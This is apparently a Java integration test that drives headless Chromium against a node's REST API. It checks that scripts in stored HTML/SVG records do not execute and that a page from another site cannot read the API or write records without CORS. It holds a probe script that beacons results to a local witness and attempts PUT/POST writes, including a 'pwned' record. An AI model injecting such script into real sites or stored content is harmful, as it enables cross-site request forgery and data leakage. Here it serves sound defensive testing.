package io.mcc.tools.process;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.mcc.http.client.Expectation;
import io.mcc.http.client.MccClient;
import io.mcc.http.client.MccClient.Content;
import io.mcc.http.client.MccClient.OwnRecord;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A real browser against a node's REST address: a stranger's page stored as a record, and a page of
 * another site. Both carry the same script; a control page shows that it runs and is noticed.
 */
// threats 37, 49
class BrowserIT {
  private static final Duration BOUND = Duration.ofSeconds(120);

  /** Tells the witness that it runs, writes at the node if it may, and tells what came of it. */
  private static final String SCRIPT =
      """
      new Image().src = 'WITNESS/seen?ran-PLACE';
      fetch('NODE/api/v1/node').then(r => r.text())
        .then(t => new Image().src = 'WITNESS/seen?read-PLACE-' + t.length,
              e => new Image().src = 'WITNESS/seen?noread-PLACE');
      fetch('NODE/api/v1/records/self/pwned-PLACE', {method: 'PUT', body: 'x'})
        .then(r => new Image().src = 'WITNESS/seen?put-PLACE-' + r.status,
              e => new Image().src = 'WITNESS/seen?noput-PLACE');
      fetch('NODE/api/v1/records', {method: 'POST', mode: 'no-cors', body: 'by PLACE'})
        .then(r => new Image().src = 'WITNESS/seen?posted-PLACE',
              e => new Image().src = 'WITNESS/seen?noposted-PLACE');
      """;

  private final Set<String> seen = ConcurrentHashMap.newKeySet();
  @TempDir Path folder;
  private HttpServer witness;
  private MccProcess node;

  @BeforeEach
  void start() throws Exception {
    assumeTrue(hasBrowser(), "no chromium here: apt-get install chromium");
    witness = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    witness.createContext("/seen", this::onSeen);
    witness.createContext("/page", exchange -> answer(exchange, page("site", true)));
    witness.start();
    node = MccLauncher.node(folder).start().awaitReady(BOUND);
  }

  @AfterEach
  void stop() {
    if (witness != null) {
      witness.stop(0);
    }
    if (node != null) {
      node.close();
    }
  }

  @Test
  void shouldRunNoScriptOfARecord() throws Exception {
    try (MccClient client = node.client()) {
      List<String> types =
          List.of("text/html", "application/xhtml+xml", "image/svg+xml", "text/xml");
      for (String type : types) {
        String name = type.replaceAll("[^a-z]", "-");
        Content content = new Content(type, page(name, type.equals("text/html")).getBytes(UTF_8));
        client.putMutable(name, content, null, Expectation.NONE);
        browse("http://" + node.restAddress() + "/api/v1/records/self/" + name);
      }
      browse(witnessAddress() + "/page");
      assertThat(seen).contains("ran-site").allMatch(line -> line.endsWith("-site"));
      assertThat(client.ownRecords(100, null).entries())
          .extracting(OwnRecord::name)
          .hasSameSizeAs(types)
          .noneMatch(name -> name.startsWith("pwned"));
    }
  }

  @Test
  void shouldTakeNothingFromAPageOfAnotherSite() throws Exception {
    browse(witnessAddress() + "/page");
    System.out.println("a page of another site: " + seen);
    assertThat(seen).contains("ran-site", "noread-site", "noput-site", "posted-site").hasSize(4);
    try (MccClient client = node.client()) {
      assertThat(client.status().recordCount()).isZero();
    }
  }

  /** What makes the test above mean something: the same page, where it is allowed to. */
  @Test
  void shouldServeASiteThatIsListed() throws Exception {
    node.close();
    Path other = folder.resolve("other");
    node =
        MccLauncher.node(other)
            .arguments("-enable-cors", witnessAddress())
            .start()
            .awaitReady(BOUND);
    browse(witnessAddress() + "/page");
    assertThat(seen).contains("put-site-201", "posted-site").doesNotContain("noread-site");
    try (MccClient client = node.client()) {
      assertThat(client.status().recordCount()).isEqualTo(2);
    }
  }

  private String witnessAddress() {
    return "http://localhost:" + witness.getAddress().getPort();
  }

  private String page(String place, boolean html) {
    String script =
        SCRIPT
            .replace("PLACE", place)
            .replace("WITNESS", witnessAddress())
            .replace("NODE", node == null ? "" : "http://" + node.restAddress());
    return html
        ? "<!doctype html><title>x</title><script>" + script + "</script>"
        : "<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA["
            + script
            + "]]></script></svg>";
  }

  private void onSeen(HttpExchange exchange) throws IOException {
    seen.add(URLDecoder.decode(exchange.getRequestURI().getRawQuery(), UTF_8));
    answer(exchange, "");
  }

  private static void answer(HttpExchange exchange, String body) throws IOException {
    byte[] bytes = body.getBytes(UTF_8);
    exchange.getResponseHeaders().set("Content-Type", "text/html");
    exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }

  private static boolean hasBrowser() throws InterruptedException {
    try {
      return new ProcessBuilder("chromium", "--version").start().waitFor(20, TimeUnit.SECONDS);
    } catch (IOException e) {
      return false;
    }
  }

  /** Whether the browser was given a file to save in place of a page; some go on waiting then. */
  private static boolean hasOnlyToSave(Path log) {
    try {
      return Files.readString(log, ISO_8859_1).contains("Page load failed: net::ERR_ABORTED");
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** Opens a page and returns when its scripts, if they run, have had their time. */
  private void browse(String url) throws IOException, InterruptedException {
    List<String> line =
        new ArrayList<>(List.of("chromium", "--headless", "--no-sandbox", "--disable-gpu"));
    line.addAll(List.of("--disable-quic", "--no-first-run", "--disable-background-networking"));
    line.addAll(List.of("--disable-component-update", "--disable-sync", "--disable-extensions"));
    line.addAll(List.of("--user-data-dir=" + folder.resolve("browser"), "--timeout=20000"));
    line.addAll(List.of("--virtual-time-budget=3000", "--dump-dom", url));
    Path log = folder.resolve("browser.log");
    Process browser =
        new ProcessBuilder(line).redirectErrorStream(true).redirectOutput(log.toFile()).start();
    try {
      Await.until(BOUND, () -> url, () -> !browser.isAlive() || hasOnlyToSave(log));
    } finally {
      browser.descendants().forEach(ProcessHandle::destroyForcibly);
      browser.destroyForcibly().waitFor(BOUND.toSeconds(), TimeUnit.SECONDS);
    }
  }
}
